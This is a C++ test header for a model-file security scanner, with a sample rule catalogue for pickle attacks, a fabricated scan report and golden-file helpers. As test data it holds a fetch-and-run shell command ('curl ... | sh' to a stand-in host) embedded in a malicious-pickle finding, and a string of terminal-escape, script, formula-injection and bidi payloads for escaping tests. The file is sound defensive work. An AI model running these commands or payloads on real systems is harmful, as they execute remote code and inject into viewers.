// A small scan made by hand, with its own rules, for the tests of every report.
//
// Its words are fixed here, so that a better text in catalogs/ changes no golden file. Test code
// only.
#pragma once

#include <cstddef>
#include <cstdint>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "record/artifact.h"
#include "report/api.h"
#include "scan/catalog.h"

namespace bartizan::report::sample {

// A catalogue with three rules, in the layout of scan/catalog.cc.
inline const scan::Catalog& catalog() {
  static const std::vector<std::byte> table = [] {
    const std::vector<std::vector<std::string>> rules{
        {"BZ-PKL-012", "calls {call} when loaded", "critical", "high", "malicious",
         "torch.load(weights_only=False), any version; weights_only=True stops it",
         "Loading the file runs the call with the rights of whoever loads it, before any line of "
         "your own code sees the model.",
         "do not load it; ask its author for an export without pickle (safetensors)",
         "a pickle whose __reduce__ returns os.system", "none known", "CVE-2019-6446",
         "AML.T0011.000", "CWE-502", "LLM03:2025"},
        {"BZ-PKL-021", "builds {subject}, a class nobody has vouched for", "medium", "medium",
         "suspicious", "unpickling: joblib.load, pickle.load",
         "The class is in no list of known constructors, so what building it does is unknown.",
         "add it to your allow-list if it is yours: bartizan allow add {subject} --role class",
         "a custom transformer that opens a connection when its state is set",
         "a harmless class of your own", "", "AML.T0011.000", "CWE-502", ""},
        {"BZ-SPN-001", "bytes that no structure of {subject} describes", "medium", "high",
         "suspicious", "no loader reads these bytes; other programs may",
         "Exporters account for every byte they write.",
         "export the model again with the original library", "data between two tensors",
         "a writer that pads without saying so", "", "AML.T0018.002", "CWE-1284", "LLM03:2025"},
    };
    const auto put = [](std::string& out, std::size_t value) {
      for (int i = 0; i < 4; ++i) out += static_cast<char>(value >> (8 * i) & 0xFF);
    };
    const std::size_t rows_at = 12 + 64 + 20;
    const std::size_t pool_at = rows_at + rules.size() * rules[0].size() * 8;
    std::string pool = "rules";
    std::string rows;
    for (const auto& rule : rules) {
      for (const std::string& cell : rule) {
        put(rows, pool_at + pool.size());
        put(rows, cell.size());
        pool += cell;
      }
    }
    std::string out = "BZCAT001";
    put(out, 1);
    out += std::string(64, '0');
    for (const std::size_t value :
         {pool_at, std::size_t{5}, rules[0].size(), rules.size(), rows_at}) {
      put(out, value);
    }
    out += rows + pool;
    std::vector<std::byte> bytes;
    for (const char c : out) bytes.push_back(static_cast<std::byte>(c));
    return bytes;
  }();
  static const scan::Catalog made{table};
  return made;
}

// Formats are given by title: no format has such an id, so what is registered changes no golden
// file.
inline record::Artifact file(std::string path, std::string format, std::uint64_t size,
                             record::Verdict verdict) {
  record::Artifact a;
  a.root = "examples/clinic-triage";
  a.path = std::move(path);
  a.sha256 = std::string(64, "0123456789abcdef"[a.path.size() % 16]);
  a.size = size;
  a.format = format;
  a.verdict = verdict;
  a.coverage.bytes_read = size;
  record::Member self;
  self.size = size;
  self.file_range = record::Range{0, size};
  if (!format.empty()) self.formats = {format};
  self.spans = {{{0, size}, base::SpanLabel::payload, true}};
  a.members.push_back(self);
  return a;
}

inline record::Finding call(std::uint32_t member, std::uint64_t offset, std::string code) {
  record::Finding f;
  f.rule = "BZ-PKL-012";
  f.severity = record::Severity::critical;
  f.confidence = record::Confidence::high;
  f.verdict = record::Verdict::malicious;
  f.title = "calls " + code + " when loaded";
  f.subject = "posix.system";
  f.member = member;
  f.range = {offset, 1};
  f.file_range = record::Range{offset + 128, 1};
  f.evidence = {{"call", code},
                {"opcode", "REDUCE"},
                {"opcodes",
                 "  1262: c GLOBAL 'posix system'\n  1276: X BINUNICODE 'curl ...'\n"
                 "  1283: \x85 TUPLE1\n> 1284: R REDUCE"}};
  return f;
}

// One file of each verdict, members in members, an accepted finding, and an excluded path.
inline record::ScanReport report() {
  using record::Verdict;
  record::ScanReport r;
  r.run = {.tool_version = "0.1.0",
           .catalog_hash = std::string(64, 'c'),
           .catalog_version = 7,
           .catalog_date = "2026-11-20",
           .catalog_installed = true,
           .catalog_weakens = 2,
           .started = "2026-11-24T03:00:00.000Z",
           .ended = "2026-11-24T03:00:02.500Z",
           .host = "build-7",
           .isolation = "seccomp+landlock(2)",
           .store = "/home/a/.local/share/bartizan/store.db",
           .depth = record::Depth::content,
           .jobs = 2,
           .roots = {"examples/clinic-triage"}};

  r.artifacts.push_back(file("README.md", "Text", 812, Verdict::not_a_model));
  r.artifacts.push_back(
      file("models/base/model.safetensors", "Safetensors", 1'048'576, Verdict::clean));

  auto triage = file("models/triage-v2.pt", "PyTorch zip", 432'013'312, Verdict::malicious);
  triage.members.push_back(
      {0, "archive/data.pkl", 4'096, record::Range{128, 4'096}, {"Pickle"}, {}});
  triage.members.push_back(
      {0, "archive/data/0", 432'000'000, record::Range{8'192, 432'000'000}, {}, {}});
  triage.members[0].spans = {{{0, 128}, base::SpanLabel::header, true},
                             {{128, 4'096}, base::SpanLabel::member, true},
                             {{4'224, 3'968}, base::SpanLabel::padding, true},
                             {{8'192, 432'000'000}, base::SpanLabel::payload, true},
                             {{432'008'192, 5'120}, base::SpanLabel::directory, true}};
  triage.findings.push_back(call(1, 1'284, "posix.system(\"curl -s https://x.invalid/i | sh\")"));
  triage.facts = {{"global", "posix.system", "", 1, {1'262, 14}},
                  {"tensor", "encoder.weight", "F32 [768, 768]", 2, {0, 2'359'296}}};
  r.artifacts.push_back(triage);

  auto scaler = file("models/vendor/scaler.joblib", "joblib pickle", 3'174, Verdict::suspicious);
  record::Finding unknown;
  unknown.rule = "BZ-PKL-021";
  unknown.severity = record::Severity::medium;
  unknown.confidence = record::Confidence::medium;
  unknown.verdict = Verdict::suspicious;
  unknown.title = "builds acme.preproc.Scaler, a class nobody has vouched for";
  unknown.subject = "acme.preproc.Scaler";
  unknown.range = {12, 30};
  unknown.file_range = unknown.range;
  scaler.findings.push_back(unknown);
  r.artifacts.push_back(scaler);

  auto nested = file("models/bundle.tar", "Tar", 20'480, Verdict::suspicious);
  nested.members.push_back({0, "b.pt", 10'000, record::Range{512, 10'000}, {"PyTorch zip"}, {}});
  nested.members.push_back({1, "archive/data.pkl", 700, std::nullopt, {"Pickle"}, {}});
  for (std::uint64_t i = 0; i < 7; ++i) {
    record::Finding f = unknown;
    f.member = 2;
    f.range = {100 + 40 * i, 20};
    f.file_range.reset();
    nested.findings.push_back(f);
  }
  nested.findings.back().count = 12;
  nested.findings.front().accepted_by = "sup-7";
  nested.coverage.state = record::CoverageState::partial;
  nested.coverage.gaps = {{"truncated", 2, {650, 50}}};
  r.artifacts.push_back(nested);

  auto encoder = file("models/old/encoder.h5", "HDF5", 52'428, Verdict::incomplete);
  encoder.coverage = {record::CoverageState::refused,
                      record::Depth::content,
                      0,
                      {{"format-not-analysed", 0, {0, 52'428}}}};
  r.artifacts.push_back(encoder);
  auto pointer = file("models/old/weights.bin", "LFS pointer", 134, Verdict::incomplete);
  pointer.coverage = {
      record::CoverageState::refused, record::Depth::content, 134, {{"lfs-pointer", 0, {0, 134}}}};
  r.artifacts.push_back(pointer);

  r.excluded = {{"node_modules", "excluded by --exclude"}, {"models/latest", "broken link"}};
  r.summary = {.artifacts = 7,
               .bytes = 433'138'916,
               .clean = 1,
               .incomplete = 2,
               .suspicious = 2,
               .malicious = 1,
               .not_a_model = 1,
               .excluded = 2,
               .cached = 3,
               .accepted = 1,
               .worst = Verdict::malicious,
               .gate_failed = true,
               .exit_code = 1,
               .interrupted = false,
               .notes = {"the exception sup-3 expired on 2026-11-01"}};
  return r;
}

// Names and texts made to break out of every sink.
inline constexpr std::string_view kHostile =
    "\x1b[2J\x1b]0;owned\x07<script>alert(1)</script>&\"' ]]>--><!--\r\n=cmd|'/c x'!A1,\t"
    "[a](javascript:x)`|*_#\xe2\x80\xae\xe2\x80\x8b\xff\xfe\xc2\x9b"
    "31m\x7f\\x41\\";

// The sample with the hostile text wherever a file can put one.
inline record::ScanReport hostile_report() {
  record::ScanReport r = report();
  const std::string text(kHostile);
  for (record::Artifact& a : r.artifacts) {
    a.path = "models/" + text + ".pt";
    a.root = "root" + text;
    a.link_target = text;
    for (record::Member& m : a.members) {
      if (&m != &a.members.front()) m.name = text;
    }
    for (record::Finding& f : a.findings) {
      f.title = "calls " + text;
      f.subject = text;
      for (record::FindingDetail& e : f.evidence) e.value = text;
      if (f.accepted_by) f.accepted_by = text;
    }
    for (record::Fact& fact : a.facts) fact.key = fact.value = text;
    for (record::Gap& gap : a.coverage.gaps) gap.reason = text;
  }
  for (record::Excluded& e : r.excluded) e.path = e.reason = text;
  r.summary.notes = {text};
  r.run.roots = {text};
  return r;
}

inline std::string slurp(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream bytes;
  bytes << in.rdbuf();
  return bytes.str();
}

// Compares with src/report/golden/<name>; BARTIZAN_UPDATE_GOLDENS=1 writes it instead.
inline bool matches_golden(const std::string& name, const std::string& text) {
  const std::string path = std::string(BARTIZAN_SOURCE_DIR "/src/report/golden/") + name;
  if (const char* update = std::getenv("BARTIZAN_UPDATE_GOLDENS"); update && *update == '1') {
    std::ofstream(path, std::ios::binary) << text;
    return true;
  }
  return slurp(path) == text;
}

}  // namespace bartizan::report::sample
